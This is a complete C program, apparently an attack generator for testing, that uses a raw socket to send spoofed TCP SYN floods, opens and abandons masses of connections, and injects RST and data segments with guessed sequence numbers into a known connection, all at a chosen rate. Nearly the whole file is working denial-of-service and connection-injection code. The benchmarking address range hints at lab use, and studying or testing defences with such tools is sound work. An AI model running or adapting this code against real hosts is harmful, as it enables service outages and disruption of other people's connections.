/* Segments of somebody who means harm, by a raw socket, as fast as asked for. Every verb prints one JSON array of numbers.
 *   attack syn    SOURCE HOST PORT PPS SECONDS            SYNs; SOURCE is "any" (addresses of 198.18.0.0/15) or the attacker's own
 *   attack call   HOST PORT PER_SECOND SECONDS            real connections by this host's kernel, opened and left
 *   attack rst    SOURCE SPORT HOST PORT PPS SECONDS      RSTs with guessed numbers, of a connection whose ends are known
 *   attack data   SOURCE SPORT HOST PORT PPS SECONDS      the same with payload
 * → [segments sent]. Addresses are numeric, IPv4. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { payload_bytes = 1000, most_calls = 8192 };
struct segment {
  struct iphdr ip;
  struct tcphdr tcp;
  uint8_t rest[12 + payload_bytes];
} __attribute__((packed));

static double now_us(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1e6 + t.tv_nsec / 1e3;
}

static uint32_t rest_of_pool;
static uint32_t pool[1024];
static uint32_t random32(void) {
  if (rest_of_pool == 0 && getrandom(pool, sizeof pool, 0) == sizeof pool) rest_of_pool = 1024;
  return pool[--rest_of_pool];
}

static uint32_t sum_words(const void *at, size_t bytes) {
  const uint8_t *byte = at;
  uint32_t sum = 0;
  for (size_t i = 0; i + 1 < bytes; i += 2) sum += byte[i] << 8 | byte[i + 1];
  if (bytes & 1) sum += byte[bytes - 1] << 8;
  return sum;
}

/* The kernel fills in the checksum of IP, not that of TCP. */
static void seal(struct segment *s, size_t tcp_bytes) {
  s->tcp.check = 0;
  uint32_t sum = sum_words(&s->ip.saddr, 8) + IPPROTO_TCP + tcp_bytes + sum_words(&s->tcp, tcp_bytes);
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  s->tcp.check = htons((uint16_t)~sum);
}

static long run_raw(const char *kind, const char *source, int sport, const char *host, int port, double pps, double seconds) {
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), is_syn = strcmp(kind, "syn") == 0, is_data = strcmp(kind, "data") == 0;
  struct sockaddr_in to = {.sin_family = AF_INET};
  if (fd < 0 || inet_pton(AF_INET, host, &to.sin_addr) != 1) return perror("attack"), -1;
  struct segment s = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP}};
  size_t options = is_syn ? 4 : 12, tcp_bytes = sizeof s.tcp + options + (is_data ? payload_bytes : 0);
  s.ip.tot_len = htons(sizeof s.ip + tcp_bytes);
  s.ip.daddr = to.sin_addr.s_addr;
  s.tcp.dest = htons(port);
  s.tcp.doff = (sizeof s.tcp + options) / 4;
  s.tcp.window = htons(64240);
  if (is_syn) memcpy(s.rest, "\2\4\5\264", 4);
  else memcpy(s.rest, "\1\1\10\12", 4);
  s.tcp.syn = is_syn;
  s.tcp.rst = !is_syn && !is_data;
  s.tcp.ack = is_data;
  s.tcp.psh = is_data;
  const int is_any = strcmp(source, "any") == 0;
  if (!is_any && inet_pton(AF_INET, source, &s.ip.saddr) != 1) return -1;
  double start = now_us();
  long sent = 0, total = (long)(pps * seconds);
  for (long tried = 0; tried < total;) {
    if ((now_us() - start) * pps / 1e6 < tried) {
      struct timespec pause = {.tv_nsec = 100000};
      nanosleep(&pause, NULL);
      continue;
    }
    if (is_any) s.ip.saddr = htonl(0xc6120000u | (random32() & 0x1ffff));
    s.tcp.source = htons(is_syn ? 1024 + random32() % 60000 : sport);
    s.tcp.seq = random32();
    s.tcp.ack_seq = is_syn ? 0 : random32();
    if (!is_syn) {
      uint32_t stamps[2] = {random32(), random32()};
      memcpy(s.rest + 4, stamps, 8);
    }
    seal(&s, tcp_bytes);
    if (sendto(fd, &s, sizeof s.ip + tcp_bytes, 0, (void *)&to, sizeof to) > 0) sent++;
    tried++;
  }
  return sent;
}

/* Connections that are opened by the kernel, hold their place, and say nothing; the oldest goes when there are many. */
static long run_call(const char *host, int port, double per_second, double seconds) {
  static int open_fds[most_calls];
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
  if (inet_pton(AF_INET, host, &to.sin_addr) != 1) return -1;
  double start = now_us();
  long called = 0, total = (long)(per_second * seconds), most = most_calls;
  long limit = sysconf(_SC_OPEN_MAX) - 16;
  if (limit < most) most = limit;
  while (called < total) {
    if ((now_us() - start) * per_second / 1e6 < called) {
      usleep(500);
      continue;
    }
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (called >= most) close(open_fds[called % most]);
    open_fds[called % most] = fd;
    connect(fd, (void *)&to, sizeof to);
    called++;
  }
  return called;
}

int main(int argc, char **argv) {
  const char *verb = argc > 1 ? argv[1] : "";
  long sent = -1;
  if (argc == 7 && strcmp(verb, "syn") == 0) sent = run_raw(verb, argv[2], 0, argv[3], atoi(argv[4]), atof(argv[5]), atof(argv[6]));
  else if (argc == 6 && strcmp(verb, "call") == 0) sent = run_call(argv[2], atoi(argv[3]), atof(argv[4]), atof(argv[5]));
  else if (argc == 8 && (strcmp(verb, "rst") == 0 || strcmp(verb, "data") == 0))
    sent = run_raw(verb, argv[2], atoi(argv[3]), argv[4], atoi(argv[5]), atof(argv[6]), atof(argv[7]));
  if (sent < 0) return 2;
  printf("[%ld]\n", sent);
  return 0;
}
